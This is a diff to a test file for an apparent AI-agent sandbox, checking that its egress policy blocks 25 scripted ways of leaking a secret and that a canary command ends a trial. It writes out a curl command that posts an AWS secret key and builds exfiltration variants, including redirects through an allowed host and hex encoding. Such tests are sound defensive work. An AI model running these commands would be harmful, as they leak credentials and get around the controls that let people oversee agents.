@@ -44,9 +44,9 @@ test("S14: 25 ways to give a secret away, and none arrives", async (t) => {
   for (const agent of AGENTS) {
     await t.test(agent, { skip: await whyNoAgents(agent) }, async () => {
       await using installation = await openInstallation();
-      const attempts = waysOut(outside, allowed.port);
+      const attempts = waysOut(outside, allowed.host);
       assert.equal(attempts.length, 25);
-      const trial = await runWith(installation, agent, allowed.port, attempts);
+      const trial = await runWith(installation, agent, allowed, attempts);
       assert.equal(trial.state, "failed", "it did nothing else, so its tests failed");
       assert.deepEqual(outside.arrived(), []);
       const leaked = allowed.heard.filter((each) => each.includes(SECRET) || each.includes("ghp_"));
@@ -55,7 +55,7 @@ test("S14: 25 ways to give a secret away, and none arrives", async (t) => {
         `flows?trial_id=${trial.id}&action=deny&limit=200`,
       );
       const reasons = new Set(flows.map(({ decision }) => decision.reason));
-      for (const reason of ["no_rule", "private_address", "foreign_credential"] as const) {
+      for (const reason of ["no_rule", "name_mismatch", "foreign_credential"] as const) {
         assert.ok(reasons.has(reason), `${reason} is not among ${[...reasons]}`);
       }
     });
@@ -63,14 +63,14 @@ test("S14: 25 ways to give a secret away, and none arrives", async (t) => {
 });
 
 test("a canary that is about to leave ends its trial", {
-  skip: await whyNoAgents(AGENTS[0]),
+  skip: (await whyNoOutside()) ?? (await whyNoAgents(AGENTS[0])),
 }, async () => {
-  await using allowed = await openAllowedHost(null);
+  await using outside = await openOutside(15);
+  await using allowed = await openAllowedHost(outside);
   await using installation = await openInstallation();
   const sends =
-    "curl -s -m 5 -X POST " +
-    `--data "$DEPLOY_AWS_SECRET_ACCESS_KEY" http://localhost:${allowed.port}/notes`;
-  const trial = await runWith(installation, AGENTS[0], allowed.port, [sends, "sleep 60"]);
+    "curl -s -m 5 -X POST " + `--data "$DEPLOY_AWS_SECRET_ACCESS_KEY" ${allowed.url}/notes`;
+  const trial = await runWith(installation, AGENTS[0], allowed, [sends, "sleep 60"]);
   assert.equal(trial.state, "cancelled");
   assert.ok(trial.flags.includes("canary"));
   assert.deepEqual(
@@ -80,9 +80,8 @@ test("a canary that is about to leave ends its trial", {
 });
 
 /** Commands, each of which would bring the secret, or word of it, to the collector. */
-function waysOut({ address, url, ports }: Outside, allowedPort: number): string[] {
+function waysOut({ address, url, ports }: Outside, friend: string): string[] {
   const given = `secret=${SECRET}`;
-  const friend = `localhost:${allowedPort}`;
   const there = `("${address}", ${ports.http})`;
   const hex = Buffer.from(SECRET).toString("hex");
   const py = (code: string) => `python3 -c ${quote(code)}`;
@@ -131,7 +130,7 @@ function quote(text: string): string {
 async function runWith(
   installation: Installation,
   agent: string,
-  port: number,
+  { host, port }: { host: string; port: number },
   commands: readonly string[],
 ): Promise<Trial> {
   const scripts = join(installation.folder, "scripts");
@@ -149,7 +148,7 @@ async function runWith(
     `agents: [${agent}]`,
     "egress:",
     "  rules:",
-    `    - { action: allow, hosts: [localhost], ports: [${port}], is_private: true }`,
+    `    - { action: allow, hosts: ["${host.split(":")[0]}"], ports: [${port}] }`,
   ]);
   const what = ["--project", "s14", "--task", "fix-median", "-a", agent, "-m", "scripted"];
   const { id } = await installation.json<Trial>("trial", "run", ...what, "--detach");
@@ -169,20 +168,21 @@ function wrapped(command: string): string {
 }
 
 /** A host that the policy allows: it redirects to wherever it is asked, and keeps what it hears. */
-async function openAllowedHost(outside: Outside | null) {
+async function openAllowedHost({ gate }: Outside) {
   const heard: string[] = [];
   const server = createServer(async (request, response) => {
     const body = await textOf(request);
     heard.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)} ${body}`);
-    const to = new URL(request.url ?? "/", "http://localhost").searchParams.get("to");
-    if (outside !== null && to !== null) response.writeHead(302, { location: to });
+    const to = new URL(request.url ?? "/", "http://any").searchParams.get("to");
+    if (to !== null) response.writeHead(302, { location: to });
     response.end("ok");
   });
-  server.listen(0, "127.0.0.1");
+  server.listen(0, gate);
   await once(server, "listening");
+  const { port } = server.address() as AddressInfo;
+  const host = `${gate}:${port}`;
   return {
-    port: (server.address() as AddressInfo).port,
-    heard,
+    ...{ host, port, url: `http://${host}`, heard },
     [Symbol.asyncDispose]: async () => {
       server.closeAllConnections();
       server.close();
